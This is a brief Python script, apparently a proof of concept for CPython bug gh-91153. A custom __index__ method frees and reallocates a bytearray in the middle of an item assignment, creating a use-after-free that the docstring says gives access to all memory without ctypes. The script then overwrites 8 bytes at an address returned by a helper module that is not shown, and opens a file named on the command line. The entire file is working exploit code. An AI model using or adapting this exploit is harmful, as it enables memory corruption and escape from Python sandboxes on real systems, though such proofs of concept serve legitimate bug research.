"""A bytearray that changes in its item's __index__ gives all memory (gh-91153), without ctypes."""

import sys

from memory import hook_list


class Shrink:
    def __index__(self):
        global memory
        freed.clear()
        memory = bytearray()
        freed.extend([0] * 56)
        return 1


freed = bytearray(56)
freed[23] = Shrink()
where = hook_list(lambda address, size: memory[address : address + size])
if where is not None:
    memory[where : where + 8] = bytes(8)
open(sys.argv[1], "w").close()
